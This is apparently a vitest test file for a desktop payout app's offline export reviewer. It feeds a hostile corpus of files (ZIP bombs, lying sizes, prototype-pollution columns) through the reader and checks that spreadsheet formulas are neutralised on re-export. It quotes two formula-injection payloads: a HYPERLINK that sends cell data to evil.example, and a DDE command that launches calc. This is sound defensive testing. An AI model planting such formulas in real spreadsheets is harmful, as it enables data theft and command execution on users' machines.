/**
 * The whole hostile corpus (tests/fixtures/hostile/, decision 27) through the offline review of
 * exports, as the app opens a file (history:openFile: the size check, then the export reader with
 * its own XLSX reader and SheetJS behind it): each file ends in a clear error naming it, or in the
 * export's rows, within bounded time and memory. Formula cells are never evaluated, and are
 * neutralised when the reviewed rows are exported again.
 */
import { mkdtemp, readFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { unzipSync } from 'fflate'
import * as XLSX from 'xlsx'
import { describe, expect, it } from 'vitest'
import { historyExportTable } from '../../../../../../shared/domain/history'
import { writeExportTable } from '../../../../../../electron/main/services/export/table-export'
import { reviewHistoryFile } from '../../../../../../electron/main/services/history/offline-history'
import {
  HOSTILE_NAMES,
  MAX_MAIN_LAG_MS,
  hostileCorpusDir,
  isClearMessage,
  mainAnswered,
  runReader,
} from '../../../../hostile/hostile-corpus'

/** What each file gives: "n items", or refused with a message matching the pattern. */
const ACCEPTED: Record<string, string> = {
  'export-clean.xlsx': '2 items',
  'export-clean.csv': '2 items',
  'export-formulas.xlsx': '3 items',
  'export-formulas.csv': '7 items',
  // The first narration is string 0 of the table: all of it is read, in the file reader's worker.
  'export-huge-shared-strings.xlsx': '2 items',
  // The nested markup is the cell's text as SheetJS reads it (the fast reader leaves it to SheetJS).
  'xml-deep-nesting-export.xlsx': '2 items',
}
const REASONS: Array<[RegExp, RegExp]> = [
  [/^export-proto-column\.xlsx$/, /marker does not list the columns/],
  [/^export-rows-removed\.xlsx$/, /exported with 2 rows but holds 1/],
  [/^export-amount-text\.csv$/, /row 3, column "Amount" is not an exact amount/],
  // Lying sizes: stopped once a part unpacks past what it declares (decision 101).
  [
    /^(zip-lying-size-[14]mb|shared-strings-lying-size)\.xlsx$/,
    /not safe to open: .*(sheet1|sharedStrings)\.xml unpacks to more than the [\d,]+ bytes its directory declares \(its sizes lie\)/,
  ],
  [/bomb|many-zip-entries/, /not safe to open: .*(ZIP bomb|parts, where a workbook has a few dozen)/],
  [/^over-limit-70mb\.csv$/, /larger than 64 MiB/],
  [/^empty\.csv$/, /the file is empty/],
  [/^(truncated(-directory)?\.xlsx|zip-encrypted-entry\.xlsx|broken-workbook-xml\.xlsx)$/, /damaged/],
  [/^(zip-not-workbook|zip-empty-archive|opendocument)\./, /ZIP archive, but not an Excel workbook/],
  [/^(legacy-biff[58]|truncated)\.xls$/, /old-style Excel \(\.xls\) file/],
  [/./, /not a Payout Desk export/],
]

describe('the hostile corpus through offline review', () => {
  it('ends every file in a clear error or the export’s rows, in bounded time and memory, polluting nothing', async () => {
    const outcomes = await runReader('review', { timeoutMs: 900_000 })
    expect(outcomes.map((outcome) => outcome.name)).toEqual(HOSTILE_NAMES)
    for (const outcome of outcomes) {
      const accepted = ACCEPTED[outcome.name]
      if (accepted) expect(`${outcome.outcome} ${outcome.result}`, outcome.name).toBe(`ok ${accepted}`)
      else {
        expect(outcome.outcome, `${outcome.name}: ${outcome.message}`).toBe('refused')
        expect(outcome.code, outcome.name).toBe('bad_request')
        expect(isClearMessage(outcome.message, outcome.name), outcome.message).toBe(true)
        const reason = REASONS.find(([name]) => name.test(outcome.name))?.[1]
        expect(outcome.message, outcome.name).toMatch(reason!)
      }
      // Read in the file reader's worker (decision 100): main keeps answering throughout. The read
      // itself (a worker started, the file parsed; a lying or bombed file stopped early, decision
      // 101) ends in bounded time.
      const [lag, said] = mainAnswered(outcome)
      expect(lag, said).toBeLessThan(MAX_MAIN_LAG_MS)
      expect(outcome.ms, `${outcome.name} took ${outcome.ms} ms`).toBeLessThan(30_000)
      expect(outcome.peakRssMb, `peak RSS ${outcome.peakRssMb} MB after ${outcome.name}`).toBeLessThan(700)
      expect(outcome.polluted, `${outcome.name} polluted Object.prototype`).toBe(false)
    }
  }, 1_000_000)

  it('reads formula cells as their text, never evaluated, and neutralises them when the rows are exported again', async () => {
    const dir = hostileCorpusDir()
    const out = await mkdtemp(join(tmpdir(), 'review-reexport-'))
    for (const name of ['export-formulas.xlsx', 'export-formulas.csv']) {
      const reviewed = reviewHistoryFile(await readFile(join(dir, name)), name)
      const narrations = reviewed.items.map((item) => item.narration)
      expect(narrations[0]).toBe('=HYPERLINK("http://evil.example/steal?d="&A2,"Click for details")')
      expect(narrations).toContain("=cmd|' /C calc'!A0")
      const table = historyExportTable(reviewed.items)
      await writeExportTable(table, join(out, `${name}.again.xlsx`), 'xlsx')
      await writeExportTable(table, join(out, `${name}.again.csv`), 'csv')
      const sheet = Buffer.from(
        unzipSync(await readFile(join(out, `${name}.again.xlsx`)))['xl/worksheets/sheet1.xml']!,
      ).toString('utf8')
      expect(sheet).not.toMatch(/<f[ >]/)
      // As a spreadsheet reads it back: text with a leading quote, no formula anywhere.
      const book = XLSX.read(await readFile(join(out, `${name}.again.xlsx`)), { type: 'buffer', cellFormula: true })
      const cells = Object.entries(book.Sheets['Payout history']!).filter(([ref]) => /^H\d+$/.test(ref) && ref !== 'H1')
      expect(cells.map(([, cell]) => (cell as XLSX.CellObject).f)).toEqual(cells.map(() => undefined))
      expect(cells.map(([, cell]) => String((cell as XLSX.CellObject).v))).toEqual(
        narrations.map((narration) => (/^[=+\-@\t]/.test(narration) ? `'${narration}` : narration)),
      )
      const csv = await readFile(join(out, `${name}.again.csv`), 'utf8')
      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example`)
      expect(csv).not.toMatch(/(^|,)=HYPERLINK/m)
    }
  })
})
